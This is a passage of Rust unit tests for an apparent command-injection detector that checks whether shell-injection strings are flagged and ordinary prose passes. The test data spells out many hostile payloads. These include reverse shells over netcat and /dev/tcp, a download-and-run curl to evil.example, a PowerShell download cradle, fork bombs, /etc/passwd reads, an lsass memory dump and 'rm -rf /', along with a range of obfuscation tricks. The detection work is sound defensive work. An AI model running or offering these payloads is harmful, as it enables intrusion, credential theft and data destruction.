                values.push(format!("{n}{other}"));
                values.push(n[1..].to_owned());
                values.push(n[..n.len() - 1].to_owned());
            }
            // The same past `ANCHOR_PASS_MAX`, where the search differs.
            let padding = "a ".repeat(ANCHOR_PASS_MAX / 2);
            let long: Vec<String> = values.iter().map(|v| format!("{padding}{v}")).collect();
            values.extend(long);
            for v in &values {
                let (present, found) = anchored.scan(v);
                assert_eq!(found != 0, automaton.is_match(v.as_str()), "{v:?}");
                assert_eq!(present.0, Present::of(v).0, "{v:?}");
                // The lists sharing a pass keep their own answers.
                let expected = (u8::from(reverse.is_match(v.as_str())) * list::REVERSE_SHELL)
                    | (u8::from(powershell.is_match(v.as_str())) * list::POWERSHELL);
                assert_eq!(both.scan(v).1, expected, "{v:?}");
            }
        }
    }

    #[test]
    fn starts_with_command_reads_the_first_program_name() {
        let reference = |lower: &str| {
            let s = lower.trim_start();
            let end = s.find([' ', '\t']).unwrap_or(s.len());
            let base = program_name(&s[..end]);
            !base.is_empty() && base.len() <= 20 && command(base).is_some()
        };
        for v in [
            "",
            " ",
            "id",
            " id",
            "\u{a0}id",
            "\x0bid -a",
            "\tcurl x",
            "/usr/bin/curl x",
            "c:\\windows\\cmd.exe /c",
            "cmd.exe",
            ".exe",
            "/",
            "a/",
            "ls/",
            "é ls",
            "x/y/ls\tz",
            "syncappvpublishingserver",
            "please drop off",
            "2026-11-28",
            "/bin/sh.exe",
            // Past `FIRST_WORD_LOOP_MAX`.
            "/usr/local/very/long/path/to/bin/curl -s http://x",
            "/usr/local/very/long/path/to/bin/curl",
            "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe -nop",
            "curl\thttps://www.example.org/a/very/long/path/x",
            "https://www.example.org/blog/best-tea-2026?utm_source=newsletter",
            "https://www.example.org/blog/best-tea-2026?utm_source=news/ls",
            "c2f1a8e4-9b7d-4c3e-8f21-000000000001",
            " \u{a0}   /usr/local/very/long/path/to/bin/id",
        ] {
            assert_eq!(starts_with_command(v), reference(v), "{v:?}");
            let flags = crate::normalize::flags_of(v);
            if v.is_ascii() {
                assert_eq!(starts_with_command_in(v, flags), reference(v), "{v:?}");
            }
        }
        // The shortcut's own cases: blanks, `.exe` around its read limit.
        for v in [
            "active",
            "union station pickup",
            "  ls -la",
            "\tcurl x",
            "whoami.exe",
            "whoami.exe x",
            "register-cimprovider x",
            "register-cimprovider.exe x",
            "register-cimprovider.exe",
            "register-cimprovider.exe\tx",
            "xregister-cimprovider.exe x",
            "syncappvpublishingserver x",
            "nc\t-e",
            "curl,x",
            "ls_x y",
            "x",
            "",
        ] {
            let flags = crate::normalize::flags_of(v);
            assert_eq!(starts_with_command_in(v, flags), reference(v), "{v:?}");
        }
        assert!(starts_with_command_in(
            "register-cimprovider.exe x",
            crate::normalize::flags_of("register-cimprovider.exe x")
        ));
    }

    #[test]
    fn wrapper_shapes_keep_every_wrapper() {
        for w in WRAPPERS {
            assert!(is_wrapper(w), "{w}");
        }
        for name in ALL_COMMANDS {
            assert_eq!(is_wrapper(name), WRAPPERS.contains(name), "{name}");
        }
        assert!(!is_wrapper("") && !is_wrapper("please") && !is_wrapper("sources"));
    }

    #[test]
    fn fork_bombs_and_brace_expansion() {
        for v in [
            ":(){ :|:& };:",
            "f(){ f & f; };f",
            "myfunc(){ myfunc|myfunc& };myfunc",
        ] {
            assert!(ids(v).contains(&"rce.fork_bomb"), "{v}");
        }
        for v in ["{,ip,a}", "{l,-lh}s", "{,ifconfig}", "{,$'whoami',}"] {
            assert!(ids(v).contains(&"rce.evasion"), "{v}");
        }
        for v in [
            "{red,green}",
            "f() { return 1; }",
            "sizes {s,m,l}",
            "{a,b}(c)",
        ] {
            assert!(ids(v).is_empty(), "{v}");
        }
    }

    #[test]
    fn process_substitution_and_arithmetic_expansion() {
        for v in [
            "<(cat file)",
            "x >(tee log)",
            "$((7))z -wrapper",
            "$(($() 42))",
            "$[2+2]",
        ] {
            assert!(ids(v).contains(&"rce.substitution"), "{v}: {:?}", ids(v));
        }
        for v in [
            "a <(b) c",
            "2 <(3+4)",
            "emoji >(",
            "cost $[USD]: 5",
            "items[$[0].name]",
            "$[-1]",
            "x << (y)",
        ] {
            assert!(!ids(v).contains(&"rce.substitution"), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn special_parameters_inside_words() {
        for v in [
            "x;c$$at /et$$c/pas$$swd",
            "x;c$!at /etc/passwd",
            "x;c$?at /etc/passwd",
            "x;c$-at /etc/passwd",
            "x;c$_at /et$_c/pas$_swd",
        ] {
            assert!(ids(v).contains(&"rce.evasion"), "{v}: {:?}", ids(v));
        }
        for v in ["costs $$ and $!", "price: $5-$10", "my $_var name"] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn globbed_paths_as_commands_and_arguments() {
        for v in [
            "/etc/pas[s]wd",
            "/etc/[!q]asswd",
            "/etc/[m-z]asswd",
            "cat /[e//]tc/[p//]asswd",
            "/usr/[a-z]in/bash",
            "/usr/bin/[u]name -a",
            "/???/c?t /e??/p*d",
        ] {
            assert!(ids(v).contains(&"rce.evasion"), "{v}: {:?}", ids(v));
        }
        for v in [
            "/*",
            "/* note */",
            "/api/items?id=1",
            "/docs/[draft]/readme",
            "/e*",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
        // Linear in the stars: this must return at once.
        let stars = format!("/{}x", "*a".repeat(30));
        assert!(!super::glob_matches(
            stars.as_bytes(),
            b"/aaaaaaaaaaaaaaaaaaaaaaaaaaaaab"
        ));
        assert!(super::glob_matches(b"/e*/pa*wd", b"/etc/passwd"));
        assert!(!super::glob_matches(b"/*", b"/bin/sh"));
    }

    #[test]
    fn wrappers_versions_and_distinctive_commands() {
        for v in [
            "time sh -c whoami",
            "nohup ifconfig",
            "python3.10 cmd",
            "cscli alerts list",
            "ansible-vault decrypt secret",
            ";gcc10.1<<<void main(){}",
            "alias a=b",
            "alias +m a=b",
            "alias +g+ a=b",
            "netsh firewall set opmode disable",
            "netsh advfirewall set allprofiles state off",
            "rundll32 comsvcs.dll MiniDump 624 lsass.dmp full",
            "pipx install something",
        ] {
            assert!(!ids(v).is_empty(), "{v}");
        }
        for v in [
            "time flies like an arrow",
            "nice to meet you",
            "python developer wanted",
            "go home; time to rest",
            "chef report nodes",
            "top +rated picks",
            "set +10 points",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tests::{assert_clean, assert_detects};

    #[test]
    fn command_injections() {
        assert_detects(";id", "rce.command_chain");
        assert_detects("|id|", "rce.command_chain");
        assert_detects("a;/usr/bin/id;", "rce.shell_path");
        assert_detects("127.0.0.1; cat /etc/passwd", "rce.command_chain");
        assert_detects(
            "x && curl http://evil.example/x.sh | sh",
            "rce.command_chain",
        );
        assert_detects("$(whoami)", "rce.substitution");
        assert_detects("`id`", "rce.substitution");
        assert_detects("x=`uname -a`", "rce.substitution");
        assert_detects(";c''at /etc/passwd", "rce.evasion");
        assert_detects(";w\"h\"oami", "rce.evasion");
        assert_detects("cat${IFS}/etc/passwd", "rce.evasion");
        assert_detects(";{cat,/etc/passwd}", "rce.evasion");
        assert_detects(";/???/c?t /???/p??s??", "rce.evasion");
        assert_detects("uname -a", "rce.unix_command");
        assert_detects("nc -lvvp 4444 -e /bin/sh", "rce.reverse_shell");
        assert_detects(
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "rce.reverse_shell",
        );
        assert_detects("& ipconfig /all", "rce.windows_command");
        assert_detects("| net user", "rce.windows_command");
        assert_detects("type C:\\Windows\\win.ini", "rce.windows_command");
        assert_detects(
            "powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://x')\"",
            "rce.powershell",
        );
        assert_detects("%0Aid", "rce.command_chain");
        assert_detects("; sleep 10", "rce.command_chain");
    }

    #[test]
    fn prose_passes() {
        for benign in [
            "cat food & dog toys",
            "rm 101 key",
            "Tom & Jerry",
            "R&D department; more info later",
            "Great product; more please",
            "| Name | id | Age |",
            "Run `npm test` before pushing",
            "sleep 8 hours a day",
            "ping me when you're ready",
            "Find the nearest store",
            "echo chamber",
            "Salt & pepper; date night",
            "She said: \"set the table\"",
            "A/B testing (phase 2)",
            "id 12345",
        ] {
            assert_clean(benign);
        }
    }

    #[test]
    fn a_separator_opening_the_value_glued_to_a_command() {
        assert_detects(";top Something else", "rce.command_chain");
        assert_detects(";at 2:00 \"echo test\"", "rce.command_chain");
        assert_detects("x\n;cut -d: -f1 /etc/passwd", "rce.command_chain");
        for benign in [
            "; top of the list",
            "apples;pears and more",
            "I like cats ;more than dogs",
            "position:absolute;top:0;left:0",
            ";top",
        ] {
            assert_clean(benign);
        }
    }

    #[test]
    fn output_redirected_into_a_file() {
        for v in [
            ">/tmp/curl",
            "2>>/var/www/x.php",
            "echo x >/tmp/a",
            "cat a > /dev/null",
        ] {
            assert_detects(v, "rce.unix_command");
        }
        for benign in [
            "> /tmp is full",
            "> quoted reply",
            ">/tmp/",
            ">/",
            "price > 5",
            "echo hello > out.txt",
            "->/api/v1",
        ] {
            assert_clean(benign);
        }
    }

    #[test]
    fn a_distinctive_command_alone_on_an_entered_line() {
        for v in [
            "visudo\n",
            "chef-shell\n",
            "ansible-console\r\n",
            "whoami \n",
        ] {
            assert_detects(v, "rce.unix_command");
        }
        for benign in ["shutdown\n", "chef\n", "top\n"] {
            assert_clean(benign);
        }
    }

    #[test]
    fn windows_commands_glued_to_a_switch() {
        assert_detects("x&ipconfig/all", "rce.windows_command");
        assert_detects("image.jpg&bcdboot/r file.txt", "rce.windows_command");
        assert_detects("x|netsh/?", "rce.windows_command");
        for benign in [
            "Type A & type/B blood",
            "docs/readme",
            "copy/paste",
            "a & net/http",
        ] {
            assert_clean(benign);
        }
    }

    #[test]
    fn a_leading_command_then_a_separator_starts_a_command_line() {
        assert_detects("whoami;", "rce.unix_command");
        assert_detects("whoami;0'0'\"", "rce.unix_command");
        assert_detects("ifconfig|nc 192.0.2.1 9", "rce.unix_command");
        assert_detects("cd /;cd etc;column passwd", "rce.unix_command");
        assert_detects("cd ..", "rce.unix_command");
        assert_detects("cd /tmp && ./x", "rce.unix_command");
        for benign in [
            "gzip;q=1.0, identity; q=0.5, *;q=0",
            "gzip; q=1.0",
            // Prose words stay prose, a trailing line break after them too
            // (a command no prose has, alone on a line, is one entered:
            // `a_distinctive_command_alone_on_an_entered_line`).
            "ping\n",
            "ping; pong",
            "Cat; dog; bird",
            "CD / DVD player",
            "CD /DVD drive",
            "I use cd / daily",
            "cd etc",
        ] {
            assert_clean(benign);
        }
    }
}

#[cfg(test)]
mod expansion_tests {
    use crate::tests::{assert_clean, assert_detects};

    #[test]
    fn empty_substitutions_and_unset_variables_join_words() {
        for v in [
            "ping`` 127.0.0.1",
            "pi``ng 127.0.0.1",
            "ping$() 127.0.0.1",
            "pi$()ng 127.0.0.1",
            "pi<()ng 127.0.0.1",
            "pi>()ng 127.0.0.1",
            "uname$u -a",
        ] {
            assert_detects(v, "rce.evasion");
        }
        assert_detects("`cut crs312``dig 34test`", "rce.substitution");
        for v in [
            ";$a cat $a $at test.txt",
            ";$a cat test.txt",
            "|$u wget test",
        ] {
            assert_detects(v, "rce.evasion");
        }
        assert_detects("$SHELL -c \"echo hi\"", "rce.unix_command");
        assert_detects("${SHELL} -c \"echo hi\"", "rce.unix_command");
        assert_detects("ifconfig;. rm -rf /;", "rce.command_chain");
        assert_detects("a=nc&&$a -nlvp 555", "rce.evasion");
        assert_detects("a=/et;b=c/passwd;cat $a$b", "rce.command_chain");
        assert_detects("x=ls;$a$b", "rce.evasion");
        assert_clean("total=5; $a is unknown");
        assert_detects("c4=x;c3=t;c2=a;c1=c;$c1$c2$c3$c4", "rce.evasion");
        for v in [
            "use `` for an empty code span",
            "total $a (approx)",
            "price$5 each",
            "source code is open",
            "$name joined the team",
            "the $ sign",
            "map<()> is a type",
            "f<()>g in C++ templates",
        ] {
            assert_clean(v);
        }
    }

    #[test]
    fn crafted_brace_expansion() {
        for v in [
            "c{a,oun}t",
            "{id,}",
            "{,echo,#test}",
            "{,ls,-la,}",
            "{,cd,/etc,}",
        ] {
            assert_detects(v, "rce.evasion");
        }
        for v in [
            "{fish,chips}",
            "{cat,dog}",
            "file{1,2}.txt",
            "{a,b,c}",
            "{cd,dvd,/vinyl}",
            "{,cd,}",
        ] {
            assert_clean(v);
        }
    }

    #[test]
    fn tilde_history_and_parameter_expansions() {
        for v in [
            "~+",
            "~-",
            "~-1",
            "~+5",
            "!-1!-2",
            "!-2",
            "${x#{}}",
            "${PATH#{}/}",
            "${path##*/}",
            "${#name}",
            "${`id`}",
            "${$(whoami)}",
        ] {
            assert_detects(v, "rce.substitution");
        }
        for v in [
            "~1",
            "~1.2.3",
            "~ 5 minutes",
            "about ~20",
            "!important",
            "Wow!-great",
            "!-1 point",
            "${name}",
            "${user.id}",
            "${a % b}",
            "Hello ${first_name}!",
            "${count}#",
            "price: ${amount} #1",
            "C# ${x}",
        ] {
            assert_clean(v);
        }
    }

    #[test]
    fn variables_assigned_then_run() {
        for v in [
            "garb=adduse[r];$garb pizza\n",
            "v='u';cu$v\\\\r\\l google.com\n",
            "x=/bin/sh; ${x} -c id",
        ] {
            assert_detects(v, "rce.evasion");
        }
        for v in [
            "a=1; b=2; total $5",
            "total=5;$5 off today",
            "a=b;c=$d",
            "name=Bob; hello $name",
            "q=shoes;size=$10",
        ] {
            assert_clean(v);
        }
    }

    #[test]
    fn netcat_running_a_program() {
        for v in [
            "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n",
            "; nc 10.0.0.1 4444 -e /bin/bash",
            "ncat -l 8080 -c cmd.exe",
        ] {
            assert_detects(v, "rce.reverse_shell");
        }
        for v in ["NC 27601 -e mail", "the nc tool has -e and -c options"] {
            assert_clean(v);
        }
    }

    #[test]
    fn cmd_for_loops_and_sqlite_dot_commands() {
        for v in [
            "for %variable in (set) do command",
            "for %%v in (a b) do echo %%v",
        ] {
            assert_detects(v, "rce.windows_command");
        }
        for v in [
            ";\n.shell nc 10.10.10.1 6666 -e sh\n",
            ";\\n.system nc 10.10.10.1 6666 -e sh",
            ";\\n.databases",
            "1;.sh whoami",
            "1;.\\\"shell whoami",
        ] {
            assert_detects(v, "rce.command_chain");
        }
        for v in [
            "for 100% in (cash) do it",
            "shipped; .net runtime updated",
            "see p.12;.5 mm",
            "version 1.2;.3",
        ] {
            assert_clean(v);
        }
    }
}
